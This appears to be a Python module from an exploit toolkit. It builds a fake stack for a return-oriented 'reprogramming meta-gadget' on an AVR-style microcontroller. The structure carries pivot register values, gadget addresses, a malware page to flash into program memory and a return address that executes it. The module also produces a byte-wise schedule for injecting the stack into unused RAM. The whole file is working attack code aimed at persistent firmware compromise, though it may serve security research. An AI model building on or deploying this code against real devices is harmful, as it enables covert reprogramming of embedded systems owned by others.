"""Fake stack for the reprogramming meta-gadget and its byte-wise injection.

The structure is consumed twice. The SP-pivot gadget pops the frame pointer,
the destination address and the loop/padding registers, then returns into the
page-programming gadget. That gadget reads the malware buffer pointer relative
to the frame pointer, flashes one page, unwinds its frame (18 more pops) and
returns to ``retAddr``.
"""

from __future__ import annotations

import enum
from dataclasses import dataclass
from typing import Any

from .errors import MalwareTooLarge, RegionCollision, UnalignedDestination
from .firmware import PAGE_BYTES, PAGE_WORDS, MemoryLayout

DEFAULT_FSP = 0x0400

# register order restored by the page-programming epilogue (and by the pivot)
FRAME_POP_ORDER = (29, 28, 17, 16, 15, 14, 13, 12, 11, 10, 9, 8, 7, 6, 5, 4, 3, 2)


class PostAction(enum.Enum):
    EXECUTE_MALWARE = "ExecuteMalware"
    REBOOT = "Reboot"


@dataclass(frozen=True)
class Field:
    name: str
    offset: int
    width: int
    must_inject: bool


def _layout() -> tuple[Field, ...]:
    widths = [
        ("load_r29", 1, True),
        ("load_r28", 1, True),
        *[(f"load_r{r}", 1, True) for r in (17, 16, 15, 14)],  # dest_m A3..A0
        *[(f"load_r{r}", 1, False) for r in (13, 12, 11, 10)],
        *[(f"load_r{r}", 1, True) for r in (9, 8, 7, 6)],  # page loop counter
        *[(f"load_r{r}", 1, False) for r in (5, 4, 3, 2)],
        ("gadget3_addr", 2, True),
        ("wordBuf", 2, False),
        ("verify_image_addr", 2, False),
        ("crcTmp", 2, False),
        ("intAddr", 2, False),
        ("malware_buff", PAGE_BYTES, True),
        ("buff_p", 2, True),
        *[(f"pad_r{r}", 1, False) for r in FRAME_POP_ORDER],
        ("retAddr", 2, True),
    ]
    out, off = [], 0
    for name, width, must in widths:
        out.append(Field(name, off, width, must))
        off += width
    return tuple(out)


FIELDS = _layout()
FAKE_STACK_SIZE = FIELDS[-1].offset + FIELDS[-1].width  # 306
FIELD_BY_NAME = {f.name: f for f in FIELDS}
FRAME_OFFSET = FIELD_BY_NAME["wordBuf"].offset
MALWARE_OFFSET = FIELD_BY_NAME["malware_buff"].offset
# header fields every schedule carries, independent of the malware size
HEADER_INJECT_BYTES = sum(f.width for f in FIELDS if f.must_inject and f.name != "malware_buff")


@dataclass(frozen=True)
class FakeStack:
    frame_pointer: int
    dest_m: int
    gadget3_addr: int
    malware: bytes
    final_return: int
    fsp: int = DEFAULT_FSP
    page_loop_counter: int = 0

    @property
    def size_m(self) -> int:
        return len(self.malware)

    @property
    def malware_page(self) -> bytes:
        return self.malware + bytes(PAGE_BYTES - len(self.malware))

    @property
    def buff_p(self) -> int:
        return self.fsp + MALWARE_OFFSET

    def relocated(self, fsp: int) -> "FakeStack":
        """The same content placed at ``fsp``; the pointers move with it."""
        return FakeStack(
            frame_pointer=fsp + FRAME_OFFSET,
            dest_m=self.dest_m,
            gadget3_addr=self.gadget3_addr,
            malware=self.malware,
            final_return=self.final_return,
            fsp=fsp,
            page_loop_counter=self.page_loop_counter,
        )

    def to_bytes(self) -> bytes:
        buf = bytearray(FAKE_STACK_SIZE)

        def put(name: str, data: bytes) -> None:
            f = FIELD_BY_NAME[name]
            assert len(data) == f.width
            buf[f.offset : f.offset + f.width] = data

        put("load_r29", bytes([self.frame_pointer >> 8 & 0xFF]))
        put("load_r28", bytes([self.frame_pointer & 0xFF]))
        for r, b in zip((17, 16, 15, 14), (2 * self.dest_m).to_bytes(4, "big")):
            put(f"load_r{r}", bytes([b]))
        for r, b in zip((9, 8, 7, 6), self.page_loop_counter.to_bytes(4, "big")):
            put(f"load_r{r}", bytes([b]))
        put("gadget3_addr", self.gadget3_addr.to_bytes(2, "little"))
        put("malware_buff", self.malware_page)
        put("buff_p", self.buff_p.to_bytes(2, "little"))
        put("retAddr", self.final_return.to_bytes(2, "little"))
        return bytes(buf)

    def must_inject_offsets(self) -> list[int]:
        out: list[int] = []
        for f in FIELDS:
            if not f.must_inject:
                continue
            width = self.size_m if f.name == "malware_buff" else f.width
            out.extend(range(f.offset, f.offset + width))
        return out

    def dump(self) -> str:
        """Annotated hex listing, one line per field."""
        raw = self.to_bytes()
        lines = []
        for f in FIELDS:
            chunk = raw[f.offset : f.offset + f.width]
            shown = chunk.hex(" ") if f.width <= 8 else f"{chunk[:8].hex(' ')} ... ({f.width} bytes)"
            tag = "inject" if f.must_inject else "pad"
            lines.append(f"{self.fsp + f.offset:#06x} +{f.offset:03d} {f.name:<18} {tag:<6} {shown}")
        return "\n".join(lines)

    def to_json(self) -> dict[str, Any]:
        return {
            "fsp": f"{self.fsp:#06x}",
            "size": FAKE_STACK_SIZE,
            "frame_pointer": f"{self.frame_pointer:#06x}",
            "dest_m": f"{self.dest_m:#06x}",
            "gadget3_addr": f"{self.gadget3_addr:#06x}",
            "final_return": f"{self.final_return:#06x}",
            "size_m": self.size_m,
            "hex": self.to_bytes().hex(),
        }


def build_fake_stack(
    malware: bytes,
    dest_m: int,
    gadget3_addr: int,
    post_action: PostAction = PostAction.EXECUTE_MALWARE,
    fsp: int = DEFAULT_FSP,
) -> FakeStack:
    """Lay out one malware page (up to 256 bytes) for flashing at word ``dest_m``."""
    malware = bytes(malware)
    if not 1 <= len(malware) <= PAGE_BYTES:
        raise MalwareTooLarge(f"malware page must hold 1..{PAGE_BYTES} bytes, got {len(malware)}")
    if dest_m % PAGE_WORDS or not 0 <= dest_m < 0x10000:
        raise UnalignedDestination(f"destination {dest_m:#x} is not a page-aligned word address")
    final = dest_m if post_action is PostAction.EXECUTE_MALWARE else 0
    return FakeStack(fsp + FRAME_OFFSET, dest_m, gadget3_addr, malware, final, fsp)


@dataclass(frozen=True)
class InjectionSchedule:
    writes: tuple[tuple[int, int], ...]
    base: int

    def __len__(self) -> int:
        return len(self.writes)

    def to_json(self) -> dict[str, Any]:
        return {"base": f"{self.base:#06x}", "writes": [[f"{a:#06x}", v] for a, v in self.writes]}


def injection_schedule(fs: FakeStack, fsp: int | None = None, layout: MemoryLayout | None = None) -> InjectionSchedule:
    """One (address, byte) write per must-inject byte, in ascending address order."""
    if fsp is None:
        fsp = fs.fsp
    elif fsp != fs.fsp:
        fs = fs.relocated(fsp)
    if layout is not None:
        lo, hi = layout.unused_region
        if fsp < lo or fsp + FAKE_STACK_SIZE > hi:
            raise RegionCollision(
                f"fake stack [{fsp:#06x}, {fsp + FAKE_STACK_SIZE:#06x}) leaves the unused region [{lo:#06x}, {hi:#06x})"
            )
    raw = fs.to_bytes()
    return InjectionSchedule(tuple((fsp + i, raw[i]) for i in fs.must_inject_offsets()), fsp)
